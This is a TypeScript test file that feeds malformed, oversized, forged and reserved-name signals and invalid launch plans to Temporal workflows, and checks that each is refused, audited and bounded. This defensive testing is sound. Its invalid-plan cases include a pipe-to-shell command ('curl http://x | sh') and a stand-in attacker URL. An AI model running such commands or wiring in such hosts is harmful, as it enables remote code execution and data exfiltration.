/**
 * Bad input sent straight to Temporal, the way the Temporal UI or CLI would send it, bypassing
 * the API: malformed signals (wrong types, unknown fields, no payload, huge payloads, unknown,
 * internal and reserved signal names) are audited as refused and never fail a workflow task; plans
 * started directly are validated by every workflow type, which fails with the bad fields named.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { WorkflowFailedError, type WorkflowHandle } from '@temporalio/client';
import { ApplicationFailure } from '@temporalio/common';
import type { Workflow } from '@temporalio/workflow';
import type { AuditEntry } from '../../domain/launch-state.js';
import { launchPlanSchema } from '../../domain/plan.js';
import { launch } from '../../workflows/launch.js';
import { lockdown } from '../../workflows/lockdown.js';
import { auditQuery, checklistQuery, statusQuery } from '../../workflows/messages.js';
import { monitoring } from '../../workflows/monitoring.js';
import { INVALID_PLAN_TYPE } from '../../workflows/plan-check.js';
import { readiness } from '../../workflows/readiness.js';
import { postLaunchReview } from '../../workflows/review.js';
import { rollbackDrill } from '../../workflows/rollback-drill.js';
import { trafficRamp } from '../../workflows/traffic.js';
import { fastPlan } from '../support/plans.js';
import { assertReplays } from '../support/replay.js';
import {
  assertNoFailedWorkflowTasks,
  eventually,
  startHarness,
  startLaunch,
  type Harness,
} from '../support/temporal.js';

let h: Harness;
before(async () => {
  h = await startHarness();
});
after(async () => {
  await h?.stop();
});

const MB = 1024 * 1024;
/** No audit entry may grow with what a caller sent: each stays a few KiB. */
const MAX_AUDIT_ENTRY_BYTES = 4 * 1024;

async function waitForGoNoGo(handle: WorkflowHandle) {
  await eventually(
    () => handle.query(statusQuery),
    (s) => s.pendingApprovals.some((p) => p.signal === 'goNoGo'),
    'goNoGo pending',
  );
}

describe('bad input', { concurrency: true }, () => {
  test('malformed signals to a launch (wrong types, unknown fields, huge payloads, unknown and reserved names) are refused and audited; no workflow task fails', async () => {
    const handle = await startLaunch(h, 'bad-signals');
    await waitForGoNoGo(handle);
    const tenThousandKeys = Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`k${i}`, i]));
    let deep: unknown = 'bottom';
    for (let i = 0; i < 2_000; i += 1) deep = { by: 'alice', decision: 'go', nested: deep };
    const sent: [string, ...unknown[]][] = [
      // wrong types
      ['goNoGo', { by: 42, decision: true }],
      ['metricsReview', 'proceed'],
      ['onCallAck', [1, 2, 3]],
      ['abort', null],
      ['freezeOverride', 12],
      ['postLaunchReview', { by: 'rev', issues: 'none', improvements: 7 }],
      // unknown fields, no payload, two payloads
      ['goNoGo', { by: 'alice', decision: 'go', sudo: true }],
      ['goNoGo'],
      ['goNoGo', { by: 'alice' }, { decision: 'go' }],
      // huge: a 1.5 MB comment, a 1 MB key, ten thousand unknown keys, 2,000 levels of nesting
      ['goNoGo', { by: 'alice', decision: 'go', comment: 'x'.repeat(1.5 * MB) }],
      ['goNoGo', { by: 'alice', decision: 'go', ['k'.repeat(MB)]: 1 }],
      ['goNoGo', { by: 'alice', decision: 'go', ...tenThousandKeys }],
      ['goNoGo', deep],
      // names: unknown, empty, very long, internal, reserved by Temporal, a query's name
      ['launchNow', { by: 'alice' }],
      ['n'.repeat(900), { by: 'alice' }],
      ['taskProgress', { task: '5.3', trafficPercent: 100, items: 'all' }],
      ['deliverApproval', { name: 'goNoGo', payload: { by: 'alice', decision: 'go' } }],
      ['__temporal_launch', { by: 'alice', decision: 'go' }],
      ['__stack_trace', {}],
      ['status', {}],
    ];
    let count = 0;
    for (const [name, ...args] of sent) {
      await handle.signal(name, ...args);
      count += 1;
      // One huge signal at a time: while a workflow task is in flight the server buffers new
      // events, and more than 2 MB of them makes it force-close that task (FORCE_CLOSE_COMMAND,
      // retried at once, but counted as a failed workflow task). Waiting for each refusal keeps
      // this test about the workflow's own handling.
      if ((JSON.stringify(args)?.length ?? 0) > 100_000)
        await eventually(
          () => handle.query(auditQuery),
          (a) => a.filter((e) => e.outcome === 'refused').length >= count,
          `refusal ${count}`,
        );
    }

    // Refused by the Temporal server itself, so they never reach the history: no name, a name
    // over its length limit, a payload over its blob size limit (2 MB on the dev server).
    const serverRefuses = (err: Error & { cause?: Error }) => {
      assert.match(
        err.cause?.message ?? '',
        /INVALID_ARGUMENT|RESOURCE_EXHAUSTED|size|limit|exceed|larger/i,
        String(err),
      );
      return true;
    };
    await assert.rejects(handle.signal('', { by: 'alice' }), serverRefuses);
    await assert.rejects(handle.signal('n'.repeat(10_000), { by: 'alice' }), serverRefuses);
    for (const size of [3 * MB, 5 * MB])
      await assert.rejects(
        handle.signal('goNoGo', { by: 'alice', decision: 'go', comment: 'x'.repeat(size) }),
        serverRefuses,
      );

    const audit = await eventually(
      () => handle.query(auditQuery),
      (a) => a.filter((e) => e.outcome === 'refused').length >= sent.length,
      `${sent.length} refusals`,
    );
    const refusals = audit.filter((e) => e.outcome === 'refused');
    assert.equal(refusals.length, sent.length, refusals.map((e) => `${e.action}: ${e.reason}`).join('\n'));
    assert.equal(audit.filter((e) => e.outcome === 'accepted').length, 0, 'nothing was accepted');
    const byAction = (action: string) => refusals.filter((e) => e.action === action);
    assert.equal(byAction('goNoGo').length, 8);
    assert.match(byAction('launchNow')[0]!.reason!, /unknown signal "launchNow"/);
    assert.match(byAction('__temporal_launch')[0]!.reason!, /unknown signal "__temporal_launch"/);
    assert.match(byAction('__stack_trace')[0]!.reason!, /unknown signal/);
    assert.match(byAction('deliverApproval')[0]!.reason!, /unknown signal "deliverApproval"/);
    assert.match(
      byAction('taskProgress')[0]!.reason!,
      /taskProgress carries no evidence.*trafficPercent, items/,
    );
    assert.ok(
      refusals.some((e) => /^n{99}…$/.test(e.action)),
      'the 10,000-character name, cut',
    );
    for (const entry of audit)
      assert.ok(
        JSON.stringify(entry).length <= MAX_AUDIT_ENTRY_BYTES,
        `audit entry ${entry.seq} is bounded (${JSON.stringify(entry).length} bytes)`,
      );

    // Still waiting for a real decision, and still working: a valid go is accepted.
    const status = await handle.query(statusQuery);
    assert.equal(status.phase, 'READINESS');
    assert.equal(status.trafficPercent, 0);
    await handle.signal('goNoGo', { by: 'alice', decision: 'go' });
    await eventually(
      () => handle.query(statusQuery),
      (s) => s.phase !== 'READINESS',
      'past readiness',
    );
    await handle.signal('abort', { by: 'sre-sam', reason: 'test over' });
    assert.equal((await handle.result()).phase, 'ABORTED');
    await assertNoFailedWorkflowTasks(h, [handle.workflowId, `${handle.workflowId}/readiness`]);
    await assertReplays([handle, h.env.client.workflow.getHandle(`${handle.workflowId}/readiness`)]);
  });

  test('signals sent to a task workflow inside a launch are refused and audited (in the launch, with the task’s outcome); no workflow task fails', async () => {
    const handle = await startLaunch(h, 'bad-task-signals');
    await waitForGoNoGo(handle);
    const task = h.env.client.workflow.getHandle(`${handle.workflowId}/readiness`);
    await task.signal('goNoGo', { by: 'alice', decision: 'go' });
    await task.signal('metricsReview', { by: 'alice', stage: 10, verdict: 'proceed' });
    await task.signal('bogus', { by: 'alice' });
    await task.signal('__temporal_bogus', { by: 'alice' });
    await task.signal('deliverApproval', 'not an approval');
    const expected = [
      /^goNoGo alice: send goNoGo to the launch bad-task-signals-launch, not to its task/,
      /^metricsReview alice: send signals to the launch .*takes no signal "metricsReview"/,
      /^bogus alice: .*takes no signal "bogus"/,
      /^__temporal_bogus \(unknown\): .*takes no signal "__temporal_bogus"/,
      /^deliverApproval \(unknown\): deliverApproval carries no approval/,
    ];
    const refusalsOf = (a: AuditEntry[]) =>
      a
        .filter((e) => e.outcome === 'refused' && e.task === '5.1')
        .map((e) => `${e.action} ${e.actor}: ${e.reason}`);
    const taskAudit = await eventually(
      () => task.query(auditQuery),
      (a) => expected.every((re) => refusalsOf(a).some((r) => re.test(r))),
      'the five refusals in the task',
    );
    assert.equal(refusalsOf(taskAudit).length, 5, refusalsOf(taskAudit).join('\n'));
    // A forged delivery from outside is not an approval: the launch still waits.
    const status = await handle.query(statusQuery);
    assert.equal(status.phase, 'READINESS');
    assert.ok(status.pendingApprovals.some((p) => p.signal === 'goNoGo'));
    await handle.signal('abort', { by: 'sre-sam', reason: 'test over' });
    assert.equal((await handle.result()).phase, 'ABORTED');
    // The task's outcome (its failure details, which only Temporal reports) carried them to the launch.
    const audit = await handle.query(auditQuery);
    assert.ok(
      expected.every((re) => refusalsOf(audit).some((r) => re.test(r))),
      refusalsOf(audit).join('\n'),
    );
    assert.equal(refusalsOf(audit).length, 5);
    await assertNoFailedWorkflowTasks(h, [handle.workflowId, task.workflowId]);
  });

  test('a standalone task refuses and audits unknown, reserved and forged-delivery signals; no workflow task fails', async () => {
    const plan = launchPlanSchema.parse(fastPlan({ service: 'bad-solo' }));
    const handle = await h.env.client.workflow.start(readiness, {
      taskQueue: h.taskQueue,
      workflowId: 'bad-solo/readiness',
      args: [{ plan, launchId: 'bad-solo' }],
    });
    await handle.signal('__temporal_x', { by: 'alice' });
    await handle.signal('goNoGoo', { by: 'alice', decision: 'go' });
    await handle.signal('deliverApproval', { name: 'goNoGo', payload: { by: 'alice', decision: 'go' } });
    await handle.signal('goNoGo', { by: 'alice', decision: 'go', extra: 'field' });
    const audit = await eventually(
      () => handle.query(auditQuery),
      (a) => a.length >= 4,
      'four refusals',
    );
    // Signals sent with the start arrive before any handler exists, so the order varies.
    assert.deepEqual(audit.map((e) => [e.action, e.outcome]).sort(), [
      ['__temporal_x', 'refused'],
      ['deliverApproval', 'refused'],
      ['goNoGo', 'refused'],
      ['goNoGoo', 'refused'],
    ]);
    assert.match(audit.find((e) => e.action === 'goNoGo')!.reason!, /malformed payload: .*extra/);
    await eventually(
      () => handle.query(checklistQuery),
      (c) => c['5.1.verification.review-conducted']?.status === 'passed',
      'go/no-go awaited',
    );
    await handle.signal('goNoGo', { by: 'alice', decision: 'go' });
    assert.equal((await handle.result()).decidedBy, 'alice');
    await assertNoFailedWorkflowTasks(h, [handle.workflowId]);
  });

  test('plans started straight through Temporal are validated by every workflow type, which fails with the fields named', async () => {
    const good = fastPlan({ service: 'bad-direct' });
    const bad: [string, unknown, RegExp][] = [
      ['empty', {}, /service: .*version: /],
      ['not an object', 'checkout 2.0.0 please', /\(root\): /],
      [
        'a URL instead of an integration name',
        { ...good, integrations: { metrics: 'http://attacker.example:9090' } },
        /integrations\.metrics: /,
      ],
      [
        'a command',
        { ...good, drill: { ...good.drill, command: 'curl http://x | sh' } },
        /drill: Unrecognized key: "command"/,
      ],
      ['a credential', { ...good, token: 'hunter2' }, /\(root\): Unrecognized key: "token"/],
      [
        'ten thousand unknown keys',
        { ...good, ...Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`junk${i}`, i])) },
        /Unrecognized keys?/,
      ],
    ];
    const types: [string, Workflow, (plan: unknown) => unknown[]][] = [
      ['launch', launch, (plan) => [{ plan }]],
      ['readiness', readiness, (plan) => [{ plan, launchId: 'bad-direct' }]],
      ['lockdown', lockdown, (plan) => [{ plan, launchId: 'bad-direct' }]],
      ['rollbackDrill', rollbackDrill, (plan) => [{ plan, launchId: 'bad-direct' }]],
      ['trafficRamp', trafficRamp, (plan) => [{ plan, launchId: 'bad-direct' }]],
      ['monitoring', monitoring, (plan) => [{ plan, launchId: 'bad-direct' }]],
      ['postLaunchReview', postLaunchReview, (plan) => [{ plan, launchId: 'bad-direct' }]],
    ];
    const ids: string[] = [];
    await Promise.all(
      types.flatMap(([type, fn, args]) =>
        bad.map(async ([what, plan, expected], i) => {
          const workflowId = `bad-direct-${type}-${i}`;
          ids.push(workflowId);
          const handle = await h.env.client.workflow.start(fn, {
            taskQueue: h.taskQueue,
            workflowId,
            args: args(plan) as never,
          });
          await assert.rejects(handle.result(), (err: unknown) => {
            assert.ok(err instanceof WorkflowFailedError, `${type} / ${what}: ${String(err)}`);
            const cause = err.cause;
            assert.ok(cause instanceof ApplicationFailure, `${type} / ${what}: ${String(cause)}`);
            assert.equal(cause.type, INVALID_PLAN_TYPE);
            assert.equal(cause.nonRetryable, true);
            assert.match(cause.message, /^invalid launch plan: /);
            assert.match(cause.message, expected, `${type} / ${what}`);
            assert.ok(cause.message.length < 8_000, `${type} / ${what}: a bounded message`);
            return true;
          });
        }),
      ),
    );
    // Every workflow type also refuses being started with no input at all, or a task without its
    // launch id, instead of crashing its workflow task forever.
    const bareStarts: [string, unknown[]][] = [
      ...types.map(([type]): [string, unknown[]] => [type, []]),
      ['readiness', [{ plan: good }]],
      // A launch under a workflow id other than its launch id (a decoy could start another's tasks).
      ['launch', [{ plan: { ...good, launchId: 'someone-elses-launch' } }]],
      // A monitoring run handed a continue-as-new state it never made.
      ['monitoring', [{ plan: good, launchId: 'bad-direct', carry: { task: {} } }]],
      [
        'monitoring',
        [
          {
            plan: good,
            launchId: 'bad-direct',
            carry: {
              ...{
                startedAt: 1,
                nextSlot: 1,
                lateness: { slots: 0, maxLateMs: 0, latest: [] },
                runs: 0,
                state: {},
              },
              onCall: { person: 'olivia', requestedAt: 1 },
              task: { checklist: {}, audit: [] },
            },
          },
        ],
      ],
      // A well-formed carry that claims the window's slots were all judged already.
      [
        'monitoring',
        [
          {
            plan: good,
            launchId: 'bad-direct',
            carry: {
              startedAt: 1,
              nextSlot: 1_000_000,
              lateness: { slots: 0, maxLateMs: 0, latest: [] },
              runs: 0,
              state: { evaluations: 0, runs: {}, totals: {} },
              onCall: { person: 'olivia', requestedAt: 1 },
              task: { checklist: {}, audit: [] },
            },
          },
        ],
      ],
    ];
    await Promise.all(
      bareStarts.map(async ([type, args], i) => {
        const bare = await h.env.client.workflow.start(type, {
          taskQueue: h.taskQueue,
          workflowId: `bad-direct-${type}-bare-${i}`,
          args,
        });
        ids.push(bare.workflowId);
        await assert.rejects(bare.result(), (err: unknown) => {
          assert.ok(err instanceof WorkflowFailedError && err.cause instanceof ApplicationFailure, `${type}`);
          assert.equal(err.cause.type, INVALID_PLAN_TYPE, `${type}: ${err.cause.message}`);
          return true;
        });
      }),
    );
    await assertNoFailedWorkflowTasks(h, ids);
  });

  test('a plan with out-of-range times or durations started straight through Temporal fails at once as an invalid plan, never a workflow-task loop', async () => {
    const good = fastPlan({ service: 'bad-bounds' });
    const bad: [string, unknown, RegExp][] = [
      // Was "Invalid time value" thrown in the first workflow task, retried for ever.
      [
        'a window ending in 273,000 years',
        { ...good, launchWindow: { start: 'now', end: 'now+99999999d' } },
        /launchWindow\.end: /,
      ],
      [
        'a monitoring window of 2,700 years',
        { ...good, monitoring: { ...good.monitoring, window: '999999999d' } },
        /monitoring\.window: at most /,
      ],
      [
        'the drill aimed at production',
        { ...good, environments: { production: 'prod', staging: 'prod' } },
        /environments\.staging: must differ from environments\.production/,
      ],
    ];
    const ids: string[] = [];
    await Promise.all(
      bad.map(async ([what, plan, expected], i) => {
        const handle = await h.env.client.workflow.start('launch', {
          taskQueue: h.taskQueue,
          workflowId: `bad-bounds-${i}`,
          args: [{ plan }],
        });
        ids.push(handle.workflowId);
        const settled = await Promise.race([
          handle.result().then(
            () => new Error('completed'),
            (err: unknown) => err,
          ),
          new Promise((resolve) => setTimeout(() => resolve(new Error('still running after 15 s')), 15_000)),
        ]);
        assert.ok(settled instanceof WorkflowFailedError, `${what}: ${String(settled)}`);
        const cause = settled.cause;
        assert.ok(cause instanceof ApplicationFailure, `${what}: ${String(cause)}`);
        assert.equal(cause.type, INVALID_PLAN_TYPE, what);
        assert.equal(cause.nonRetryable, true);
        assert.match(cause.message, expected, what);
      }),
    );
    await assertNoFailedWorkflowTasks(h, ids);
  });
});
